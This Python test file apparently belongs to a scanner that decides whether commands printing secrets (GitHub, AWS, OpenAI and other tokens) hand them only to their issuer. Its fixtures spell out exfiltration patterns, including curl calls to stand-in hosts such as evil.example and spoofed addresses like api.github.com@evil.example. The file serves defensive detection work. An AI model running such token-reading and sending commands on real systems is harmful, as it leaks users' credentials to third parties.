"""Claims about whose a token is and whom it may be shown."""

from __future__ import annotations

import pytest

from chrono.scan.command import Command, Pattern
from chrono.scan.issuers import goes_abroad, goes_home, handed_home, issuer_of, variable_issuer

GH = ("gh", "auth", "token")


@pytest.mark.parametrize("name", ["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "NPM_TOKEN", "HF_TOKEN"])
def test_a_variable_named_after_an_issuer_holds_its_secret(name: str) -> None:
    assert variable_issuer(name) is not None


@pytest.mark.parametrize("name", ["GITHUB_ACTOR", "AWS_REGION", "TOKEN", "MY_TOKEN", "NODE_ENV", "CI", "OPENAI_ORG_ID"])
def test_other_variables_are_nobodys(name: str) -> None:
    assert variable_issuer(name) is None


def test_what_a_program_prints_belongs_to_its_issuer() -> None:
    assert issuer_of(("/usr/bin/gh", "auth", "token")) == issuer_of(("printenv", "GITHUB_TOKEN")) == "GITHUB"
    assert issuer_of(("gh", "auth", "status")) is None
    assert issuer_of(()) is None


@pytest.mark.parametrize(
    "address", ["https://api.github.com/user", "github.com/a/b", "https://github.example.com/api/v3/user"]
)
def test_a_token_may_go_to_its_issuer(address: str) -> None:
    assert goes_home(GH, Command(("curl", "-H", Pattern(("Authorization: ", None)), address)))
    assert not goes_abroad(GH, Command(("curl", address)))


@pytest.mark.parametrize(
    "address", ["https://evil.example/", "https://api.github.com.evil.example/", "https://api.github.com@evil.example/"]
)
def test_a_token_does_not_go_to_anybody_else(address: str) -> None:
    assert goes_abroad(GH, Command(("curl", "-d", "x", address)))
    assert not goes_home(GH, Command(("curl", address)))


@pytest.mark.parametrize(
    ("source", "host"),
    [
        (("printenv", "AWS_SECRET_ACCESS_KEY"), "bucket.s3.amazonaws.com"),
        (("printenv", "AWS_SECRET_ACCESS_KEY"), "x.execute-api.eu-west-1.amazonaws.com"),
        (("gcloud", "auth", "print-access-token"), "collect-abc.run.app"),
        (("printenv", "CLOUDFLARE_API_TOKEN"), "collect.someone.workers.dev"),
        (("printenv", "VERCEL_TOKEN"), "collect.vercel.app"),
        (("printenv", "OPENAI_API_KEY"), "openai.example"),
    ],
)
def test_what_customers_of_an_issuer_answer_is_not_the_issuer(source: tuple[str, ...], host: str) -> None:
    assert goes_abroad(source, Command(("curl", f"https://{host}/")))


def test_a_registry_of_the_issuer_may_have_the_password_it_gave_out() -> None:
    login = Command(("docker", "login", "--password-stdin", "1234.dkr.ecr.eu-west-1.amazonaws.com"))
    assert goes_home(("aws", "ecr", "get-login-password"), login)


def test_an_address_that_is_not_known_is_neither() -> None:
    command = Command(("curl", Pattern((None, "/user"))))
    assert not goes_home(GH, command)
    assert not goes_abroad(GH, command)


def test_a_token_is_handed_over_only_where_nobody_else_sees_it() -> None:
    home = Command(("curl", "https://api.github.com/user"), upstream=(GH,))
    abroad = Command(("curl", "https://evil.example/"), upstream=(GH,))
    assert handed_home([Command(GH), home]) == {GH}
    assert handed_home([Command(GH), home, abroad]) == frozenset()
    assert handed_home([Command(GH), Command(GH), home]) == frozenset()
    assert handed_home([Command(GH), Command(("cat",), upstream=(GH,))]) == frozenset()
